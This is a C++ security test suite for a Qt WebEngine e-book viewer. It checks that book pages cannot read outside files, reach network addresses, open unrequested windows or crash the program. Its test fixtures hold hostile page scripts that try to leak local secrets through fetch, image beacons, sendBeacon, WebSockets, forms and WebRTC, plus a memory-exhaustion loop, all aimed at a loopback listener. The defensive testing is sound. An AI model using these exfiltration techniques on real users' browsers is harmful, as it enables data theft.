// A book page reads its own book only and reaches no network address, in the main browser
// and in every viewer window alike, WebRTC included; a web link the reader clicks opens in
// the desktop's browser. A hostile page neither crashes the program nor traps it.
#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QUdpSocket>
#include <memory>
#include <vector>

#include "GlobalVars.h"
#include "PagePolicy.h"
#include "TBookSchemeHandler.h"
#include "TRenderWatch.h"
#include "Tfrm_ExternalViewer.h"
#include "browser_test_util.h"

namespace {

void WriteFile(const QString& path, const QByteArray& bytes) {
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

std::string ProgramForm(QString folder) {
    folder.replace(QLatin1Char('/'), QLatin1Char('\\'));
    return folder.toStdString() + "\\";
}

// A web server on 127.0.0.1 that counts the requests it gets and answers each with a page.
class TListener {
public:
    TListener() {
        EXPECT_TRUE(Server.listen(QHostAddress::LocalHost));
        QObject::connect(&Server, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* socket = Server.nextPendingConnection()) {
                ++Connections;
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [socket] {
                    socket->readAll();
                    socket->write("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body>WEB</body></html>");
                    socket->disconnectFromHost();
                });
            }
        });
    }
    QString Url(const char* path = "") const {
        return QStringLiteral("http://127.0.0.1:%1/%2").arg(Server.serverPort()).arg(QLatin1String(path));
    }
    int Connections = 0;

private:
    QTcpServer Server;
};

class BrowserSecurityTest : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_TRUE(dir.isValid());
        book = dir.path() + QStringLiteral("/книга");
        secret = dir.path() + QStringLiteral("/secret.txt");
        WriteFile(secret, "SECRET-TEXT");
        WriteFile(book + "/inside.txt", "INSIDE-TEXT");
        WriteFile(book + "/other.html", "<html><head><meta charset='utf-8'></head><body>Другая страница</body></html>");
        browser.resize(800, 600);
        browser.show();
        browser.SetBaseFolder(ProgramForm(book));
        browser.OnNewWindow = [this](TWebBrowser*& target, bool&) {
            viewers.push_back(std::make_unique<Tfrm_ExternalViewer>(Settings));
            viewers.back()->show();
            target = viewers.back()->wb_Browser;
        };
        browser.OpenWebLink = [this](const QUrl& url) {
            webLinks.push_back(url);
            return true;
        };
    }
    QString Results() { return EvalJs(browser, QStringLiteral("window.results.join('\\n')")).toString(); }
    void ReaderClicks(const char* id) { ASSERT_TRUE(::ReaderClicks(browser, id)) << id; }

    QTemporaryDir dir;
    QString book, secret;
    TListener listener;
    TWebBrowser browser;
    std::vector<std::unique_ptr<Tfrm_ExternalViewer>> viewers;
    std::vector<QUrl> webLinks;  // what went to the desktop's browser
};

// Every way a page loads something by itself, from markup and from script: only the file of
// its own book arrives, the file beside the book and the web server get nothing.
TEST_F(BrowserSecurityTest, HostilePageReadsNoOutsideFileAndReachesNoAddress) {
    const QString web = listener.Url();
    const QString file = QUrl::fromLocalFile(secret).toString();
    const QString html = QStringLiteral(R"(<html><head>
<meta http-equiv="refresh" content="0;url=%1refresh">
<link rel="stylesheet" href="%1style.css"><script src="%1script.js"></script>
<style>@import url("%1import.css"); body { background: url("%1bg.png"); }</style>
</head><body><p id="text">Страница</p>
<img src="%2"><img src="%1img.png"><iframe src="%2"></iframe><iframe src="%1frame"></iframe>
<form id="form" method="post" action="%1form"><input name="a" value="b"></form>
<script>
window.results = [];
const note = (what, p) => p.then(t => results.push(what + ':' + t), () => results.push(what + ':refused'));
const xhr = url => new Promise((ok, no) => {
  const r = new XMLHttpRequest(); r.open('GET', url); r.onload = () => ok(r.responseText); r.onerror = no; r.send(); });
Promise.allSettled([
  note('xhr-inside', xhr('inside.txt')),
  note('fetch-file', fetch('%2').then(r => r.text())),
  note('xhr-file', xhr('%2')),
  note('book-scheme-outside', xhr('../secret.txt')),
  note('fetch-web', fetch('%1fetch', {mode: 'no-cors'}).then(() => 'sent')),
  note('xhr-web', xhr('%1xhr')),
]).then(() => {
  new Image().src = '%1leak?' + encodeURIComponent(results.join(','));
  try { new WebSocket('ws://127.0.0.1:%3/socket'); } catch (e) {}
  try { new EventSource('%1events'); } catch (e) {}
  try { navigator.sendBeacon('%1beacon', 'x'); } catch (e) {}
  window.open('%1window'); window.open('%2');
  document.getElementById('form').submit();
  setTimeout(() => { location.href = '%2'; }, 50);
  setTimeout(() => { location.href = '%1location'; }, 100);
  setTimeout(() => results.push('done'), 400);
});
</script></body></html>)")
                             .arg(web, file)
                             .arg(QUrl(web).port());
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    const QUrl page = browser.View()->url();
    ASSERT_TRUE(WaitFor([&] { return Results().endsWith(QStringLiteral("done")); }));
    // From the page's last step on, nothing reaches the listener, opens a window or leaves the page.
    EXPECT_TRUE(
        StaysFalse([&] { return listener.Connections > 0 || !viewers.empty() || browser.View()->url() != page; }));

    const QString results = Results();
    EXPECT_TRUE(results.contains(QStringLiteral("xhr-inside:INSIDE-TEXT"))) << results.toStdString();
    EXPECT_FALSE(results.contains(QStringLiteral("SECRET"))) << results.toStdString();
    for (const char* refusedLoad : {"fetch-file:refused", "xhr-file:refused", "book-scheme-outside:refused",
                                    "fetch-web:refused", "xhr-web:refused"})
        EXPECT_TRUE(results.contains(QLatin1String(refusedLoad))) << refusedLoad;
    EXPECT_EQ(listener.Connections, 0);
    EXPECT_TRUE(viewers.empty()) << "no window opens for a refused address";
    EXPECT_EQ(browser.View()->url(), page);
    EXPECT_GE(refused.count(), 4);  // two windows, the form and the locations (the refresh may come first)
}

// The engine calls a script's navigation a clicked link too: only the link under the reader's
// click goes out, to the desktop's browser, and the book page stays.
TEST_F(BrowserSecurityTest, WebLinkOpensOutsideWhenTheReaderClicksItNeverWhenAScriptNavigates) {
    const QString html = QStringLiteral(
                             "<html><body><a id='web' href='%1page'>сайт</a> <a id='blank' href='%1popup' "
                             "target='_blank'>окно</a><p id='text'>Простой текст</p><script>"
                             "document.getElementById('text').onclick = () => setTimeout(() => {"
                             " location.href = '%1afterclick'; setTimeout(() => document.title = 'after', 100); }, 20);"
                             "</script></body></html>")
                             .arg(listener.Url());
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    const QUrl page = browser.View()->url();
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    EvalJs(browser, QStringLiteral("document.getElementById('web').click(); document.getElementById('blank').click()"));
    ASSERT_TRUE(WaitFor([&] { return refused.count() == 2; }));
    EXPECT_TRUE(refused.at(0).at(0).toString().contains(listener.Url("page")));
    ReaderClicks("text");  // a click on plain text lends the script no gesture
    ASSERT_TRUE(WaitFor([&] { return browser.View()->title() == QLatin1String("after"); }));
    ASSERT_EQ(refused.count(), 3);
    EXPECT_TRUE(refused.at(2).at(0).toString().contains(listener.Url("afterclick")));
    EXPECT_TRUE(viewers.empty());
    EXPECT_TRUE(webLinks.empty());

    ReaderClicks("blank");
    ASSERT_TRUE(WaitFor([&] { return webLinks.size() == 1; }));
    EXPECT_EQ(webLinks.back(), QUrl(listener.Url("popup")));
    ReaderClicks("web");
    ASSERT_TRUE(WaitFor([&] { return webLinks.size() == 2; }));
    EXPECT_EQ(webLinks.back(), QUrl(listener.Url("page")));
    EXPECT_TRUE(viewers.empty());
    EXPECT_EQ(browser.View()->url(), page);
    EXPECT_EQ(listener.Connections, 0);
}

// WebRTC gathers its candidates with a STUN server over UDP and a TURN server over TCP, the
// page's data in the user name: neither loopback listener hears anything.
TEST_F(BrowserSecurityTest, WebRtcSendsNoPacket) {
    QUdpSocket stun;
    ASSERT_TRUE(stun.bind(QHostAddress::LocalHost, 0));
    int datagrams = 0;
    QObject::connect(&stun, &QUdpSocket::readyRead, [&] {
        while (stun.hasPendingDatagrams()) {
            stun.readDatagram(nullptr, 0);
            ++datagrams;
        }
    });
    const QString html = QStringLiteral(R"(<html><body><script>
window.results = [];
const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%1'},
  {urls: 'turn:127.0.0.1:%2?transport=tcp', username: 'PAGE-DATA', credential: 'x'}]});
pc.createDataChannel('leak');
pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') results.push('done'); };
pc.createOffer().then(offer => pc.setLocalDescription(offer)).catch(e => results.push('done ' + e));
</script></body></html>)")
                             .arg(stun.localPort())
                             .arg(QUrl(listener.Url()).port());
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    // Gathering ends at once when nothing may be sent; a packet that leaves ends the wait too.
    ASSERT_TRUE(WaitFor(
        [&] { return datagrams > 0 || listener.Connections > 0 || Results().startsWith(QStringLiteral("done")); }));
    EXPECT_EQ(datagrams, 0);
    EXPECT_EQ(listener.Connections, 0);
    EXPECT_EQ(Results(), QStringLiteral("done"));
}

// A window opens at the reader's gesture only, and never blank: the opener writing into a
// blank window used to end the program. A book page its opener writes into shows.
TEST_F(BrowserSecurityTest, WindowsOpenAtTheReadersGestureAndNeverBlank) {
    const QString html = QStringLiteral(
        "<html><body><p id='blank'>Пустое</p> <p id='book'>Книга</p><script>"
        "const write = url => { const w = window.open(url); if (w) { w.document.write('<p>WRITTEN</p>'); "
        "w.document.close(); } };"
        "document.getElementById('blank').onclick = () => write('');"
        "document.getElementById('book').onclick = () => write('other.html');"
        "setTimeout(() => { write('other.html'); write(''); document.title = 'tried'; }, 50);"
        "</script></body></html>");
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    ASSERT_TRUE(WaitFor([&] { return browser.View()->title() == QLatin1String("tried"); }));
    ASSERT_EQ(refused.count(), 2);
    EXPECT_TRUE(refused.at(0).at(0).toString().contains(QStringLiteral("без действия читателя")));
    EXPECT_TRUE(refused.at(1).at(0).toString().contains(QStringLiteral("без действия читателя")));

    ReaderClicks("blank");
    ASSERT_TRUE(WaitFor([&] { return refused.count() == 3; }));
    EXPECT_TRUE(refused.at(2).at(0).toString().contains(QStringLiteral("пустое окно")));
    EXPECT_TRUE(viewers.empty());

    ReaderClicks("book");
    ASSERT_TRUE(WaitFor([&] { return viewers.size() == 1 && !BodyText(*viewers.front()->wb_Browser).isEmpty(); }));
    EXPECT_TRUE(viewers.front()->isVisible());
    EXPECT_TRUE(BodyText(browser).contains(QStringLiteral("Книга")));  // the opener lives on
}

// A render process that ends abnormally, or that the watch stops for its memory, leaves a
// page that says why, and the browser shows the next page as usual.
TEST_F(BrowserSecurityTest, PageThatCrashesOrTakesTooMuchMemoryIsReplacedByAFailurePage) {
    QSignalSpy ended(browser.View()->page(), &QWebEnginePage::renderProcessTerminated);
    ASSERT_TRUE(ShowPage(browser, "<html><body>before</body></html>"));
    browser.View()->load(QUrl(QStringLiteral("chrome://crash")));
    ASSERT_TRUE(WaitFor([&] { return ended.count() == 1; }));
    ASSERT_TRUE(WaitIdle(browser));
    EXPECT_TRUE(BodyText(browser).contains(QStringLiteral("завершилась аварийно"))) << BodyText(browser).toStdString();

    ASSERT_TRUE(ShowPage(browser, "<html><body>waiting</body></html>"));
    const qint64 pid = browser.View()->page()->renderProcessPid();
    ASSERT_GT(pid, 0);
    browser.SetMemoryLimit(TRenderWatch::ResidentBytes(pid) + (qint64(200) << 20));
    ASSERT_TRUE(ShowPage(browser, R"(<html><body>growing<script>
const hoard = [];
setInterval(() => { for (let i = 0; i < 8; ++i) hoard.push(new Float64Array(1 << 20).fill(Math.random())); }, 20);
</script></body></html>)"));
    ASSERT_TRUE(WaitFor([&] { return ended.count() == 2; }));
    EXPECT_EQ(ended.at(1).at(0).value<QWebEnginePage::RenderProcessTerminationStatus>(),
              QWebEnginePage::KilledTerminationStatus);
    ASSERT_TRUE(WaitIdle(browser));
    const QString failure = BodyText(browser);
    EXPECT_TRUE(failure.contains(QStringLiteral("слишком много памяти"))) << failure.toStdString();
    EXPECT_TRUE(failure.contains(QStringLiteral("четверть памяти компьютера")));
    ASSERT_TRUE(ShowPage(browser, "<html><body>after</body></html>"));
    EXPECT_EQ(BodyText(browser), QStringLiteral("after"));
}

TEST_F(BrowserSecurityTest, FileLinkShowsABookFileThroughThePageSchemeAndRefusesAnyOther) {
    const QString html =
        QStringLiteral(
            "<html><body><a id='outside' href='%1'>вне</a><a id='inside' href='%2'>в книге</a>"
            "</body></html>")
            .arg(QUrl::fromLocalFile(secret).toString(), QUrl::fromLocalFile(book + "/other.html").toString());
    ASSERT_TRUE(ShowPage(browser, html.toStdString()));
    const QUrl page = browser.View()->url();
    QSignalSpy refused(&browser, &TWebBrowser::NavigationRefused);
    ReaderClicks("outside");
    ASSERT_TRUE(WaitFor([&] { return refused.count() == 1; }));
    EXPECT_TRUE(refused.at(0).at(0).toString().contains(QStringLiteral("файл вне папки книги")));
    EXPECT_EQ(browser.View()->url(), page);

    EvalJs(browser, QStringLiteral("document.getElementById('inside').click()"));
    ASSERT_TRUE(WaitFor([&] { return BodyText(browser) == QStringLiteral("Другая страница"); }));
    EXPECT_EQ(browser.View()->url().scheme(), QLatin1String(BookPageScheme));
}

TEST(PagePolicy, LoadsAndNavigationsOfBookPages) {
    const char* const allowed[] = {"tmrbook://book/b/pic.png", "data:image/png;base64,AAAA", "blob:tmrbook://book/x",
                                   "about:blank"};
    const char* const refused[] = {"file:///etc/passwd", "http://127.0.0.1/x", "https://example.org/",
                                   "ws://127.0.0.1/x",   "ftp://host/x",       "qrc:/icons/open.svg"};
    for (const char* request : allowed)
        EXPECT_TRUE(MayPageLoad(QUrl(request))) << request;
    for (const char* request : refused)
        EXPECT_FALSE(MayPageLoad(QUrl(request))) << request;

    using V = TNavigationVerdict;
    struct Navigation {
        const char* url;
        bool mainFrame, readerClicked;
        V verdict;
    };
    const Navigation navigations[] = {
        {"tomeri://showdoc/?DivID=a", true, false, V::Follow},
        {"tmrbook://book/b/other.html", true, false, V::Follow},
        {"about:blank", true, false, V::Follow},
        {"https://example.org/", true, true, V::OpenOutside},
        {"https://example.org/", false, true, V::OpenOutside},  // a link in a frame of the book
        {"https://example.org/", true, false, V::RefuseWeb},
        {"http://example.org/", false, false, V::RefuseWeb},
        {"file:///etc/passwd", true, true, V::BookFile},
        {"ftp://host/x", true, true, V::RefuseOther},
        {"mailto:a@b.c", true, true, V::RefuseOther},
        {"data:text/html,x", true, true, V::RefuseOther},
        {"data:text/html,x", false, false, V::Follow},
    };
    for (const Navigation& c : navigations)
        EXPECT_EQ(JudgeNavigation(QUrl(c.url), c.mainFrame, c.readerClicked), c.verdict) << c.url;
}

}  // namespace
